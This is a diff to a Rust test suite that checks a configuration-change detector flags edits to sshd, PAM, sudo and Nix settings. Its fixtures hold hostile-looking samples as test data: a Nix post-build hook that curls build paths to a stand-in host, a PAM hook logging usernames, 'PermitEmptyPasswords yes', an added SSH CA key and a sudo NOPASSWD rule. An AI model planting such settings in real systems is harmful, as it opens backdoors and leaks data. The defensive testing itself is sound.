@@ -46,9 +46,28 @@ fn base_spec(log: &Path) -> SystemSpec {
     spec.edit_etc("sudoers", |t| {
         format!("{t}@include @file:sudoers-extra@\n")
     });
+    // sshd_config names a store file of CA keys and includes another.
+    spec.set_store_file("sshd-ca-keys", &format!("{LAPTOP}\n"));
+    spec.set_store_file("sshd-extra.conf", "# no extra settings\n");
+    spec.edit_etc("ssh/sshd_config", |t| {
+        format!(
+            "{t}TrustedUserCAKeys @file:sshd-ca-keys@\n\
+             Include @file:sshd-extra.conf@\n"
+        )
+    });
+    // A PAM session script and a Nix post-build hook, generated files
+    // without a version.
+    spec.set_store_file("pam-session-hook", "#!/bin/sh\nexit 0\n");
+    spec.edit_etc("pam.d/sshd", |t| {
+        format!("{t}session optional pam_exec.so @file:pam-session-hook@\n")
+    });
+    spec.set_store_file("post-build-hook", "#!/bin/sh\nexit 0\n");
     spec.set_store_file("nix-extra.conf", "# no extra settings\n");
     spec.edit_etc("nix/nix.conf", |t| {
-        format!("{t}!include @file:nix-extra.conf@\n")
+        format!(
+            "{t}post-build-hook = @file:post-build-hook@\n\
+             !include @file:nix-extra.conf@\n"
+        )
     });
     spec.set_store_file("sudo-rules", "# no rules\n");
     spec.set_package(Package::with_binary("bash", "5.2p37"));
@@ -142,6 +161,26 @@ fn variants() -> Vec<(&'static str, Change)> {
             s.edit_etc("sudoers", |t| {
                 format!("{t}alice ALL=(ALL:ALL) NOPASSWD: ALL\n")
             });
+        }),
+        ("sshd-ca-keys", |s| {
+            // The file keeps its name and path; another CA key now
+            // signs certificates that sshd accepts.
+            s.set_store_file("sshd-ca-keys", &format!("{LAPTOP}\n{PHONE}\n"));
+        }),
+        ("sshd-include", |s| {
+            s.set_store_file("sshd-extra.conf", "PermitEmptyPasswords yes\n");
+        }),
+        ("pam-exec-script", |s| {
+            s.set_store_file(
+                "pam-session-hook",
+                "#!/bin/sh\necho \"$PAM_USER\" >> /tmp/x\n",
+            );
+        }),
+        ("nix-hook-script", |s| {
+            s.set_store_file(
+                "post-build-hook",
+                "#!/bin/sh\ncurl -d \"$OUT_PATHS\" http://x.invalid\n",
+            );
         }),
         ("sudo-include", |s| {
             // sudoers keeps its `@include` line; the included file gains
@@ -692,6 +731,52 @@ fn sudo_nopasswd_rule_is_critical() {
 #[test]
 fn sudo_defaults() {
     check("sudo-defaults", &[(K::SudoConfigChanged, S::High)], &[]);
+}
+
+#[test]
+fn sshd_named_file_change_is_flagged() {
+    let alerts =
+        check("sshd-ca-keys", &[(K::SshdSettingChanged, S::High)], &[]);
+    assert_eq!(alerts.len(), 1, "{alerts:#?}");
+    assert_eq!(alerts[0].subject, "/etc/ssh/sshd_config");
+    assert!(
+        alerts[0].detail.contains("sshd-ca-keys (+1 -0)"),
+        "{alerts:#?}"
+    );
+}
+
+#[test]
+fn sshd_include_content_is_read() {
+    let alerts =
+        check("sshd-include", &[(K::SshdSettingChanged, S::Critical)], &[]);
+    // The included file's settings are compared, so it raises no second
+    // alert as a named file.
+    assert_eq!(alerts.len(), 1, "{alerts:#?}");
+    assert!(
+        alerts[0]
+            .detail
+            .contains("PermitEmptyPasswords (default) -> yes"),
+        "{alerts:#?}"
+    );
+}
+
+#[test]
+fn pam_named_script_change_is_flagged() {
+    let alerts = check("pam-exec-script", &[(K::PamChanged, S::High)], &[]);
+    assert_eq!(alerts.len(), 1, "{alerts:#?}");
+    assert_eq!(alerts[0].subject, "/etc/pam.d/sshd");
+    assert!(
+        alerts[0].detail.contains("pam-session-hook (+1 -1)"),
+        "{alerts:#?}"
+    );
+}
+
+#[test]
+fn nix_hook_script_change_is_flagged() {
+    let alerts =
+        check("nix-hook-script", &[(K::NixSettingChanged, S::High)], &[]);
+    assert_eq!(alerts.len(), 1, "{alerts:#?}");
+    assert!(alerts[0].detail.contains("post-build-hook"), "{alerts:#?}");
 }
 
 #[test]
